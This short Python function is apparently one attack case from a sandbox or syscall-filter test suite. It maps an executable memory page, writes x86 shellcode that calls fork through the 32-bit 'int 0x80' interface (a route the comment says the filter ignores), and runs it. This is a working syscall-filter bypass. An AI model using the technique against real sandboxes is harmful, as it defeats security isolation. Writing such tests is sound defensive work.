# Attempts: use the 32-bit system-call table, which the filter does not read.

def attack(world):
    import ctypes, mmap
    # mov eax, 2 (fork); int 0x80; ret
    code = bytes.fromhex("b802000000cd80c3")
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
